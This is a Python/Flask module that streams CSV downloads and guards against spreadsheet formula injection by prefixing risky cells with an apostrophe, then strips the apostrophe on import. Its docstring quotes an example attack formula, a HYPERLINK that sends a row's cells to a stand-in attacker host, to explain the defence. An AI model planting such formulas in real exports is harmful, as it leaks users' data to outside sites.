"""The one way we hand out CSV files, and read back the ones we wrote.

A CSV file is opened in a spreadsheet, which runs any cell that starts like a formula: a
listing named `=HYPERLINK("https://evil.example/?"&C3, "Open")` would send the row's other
cells to that site from the coordinator's machine, and `+cmd|...` or `@SUM(...)` run too. So
every cell that could start a formula gets a leading apostrophe, which spreadsheets show as
text (OWASP's advice on CSV injection). The listings import takes the apostrophe off again,
so a file exported and imported unchanged keeps every value as it was.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator, Sequence

from flask import Response, stream_with_context

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FLUSH_EVERY = 200  # rows per chunk of a streamed file


def _starts_a_formula(text: str) -> bool:
    return text[:1] in FORMULA_STARTS or text.lstrip(" ")[:1] in FORMULA_STARTS


def neutralised(value: object) -> str:
    text = "" if value is None else str(value)
    return f"'{text}" if _starts_a_formula(text) else text


def restored(cell: str) -> str:
    """A cell as it was before `neutralised`."""
    return cell[1:] if cell.startswith("'") and _starts_a_formula(cell[1:]) else cell


def csv_lines(header: Sequence[str], rows: Iterable[Sequence[object]]) -> Iterator[str]:
    """The file in chunks of rows, every cell neutralised."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([neutralised(name) for name in header])
    for number, row in enumerate(rows, start=1):
        writer.writerow([neutralised(cell) for cell in row])
        if number % FLUSH_EVERY == 0:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue()


def csv_download(header: Sequence[str], rows: Iterable[Sequence[object]], filename: str) -> Response:
    """A streamed CSV attachment; `rows` may read the database as it goes."""
    return Response(
        stream_with_context(csv_lines(header, rows)),
        mimetype="text/csv",
        headers={"Content-Disposition": f'attachment; filename="{filename}"', "Cache-Control": "no-store"},
    )
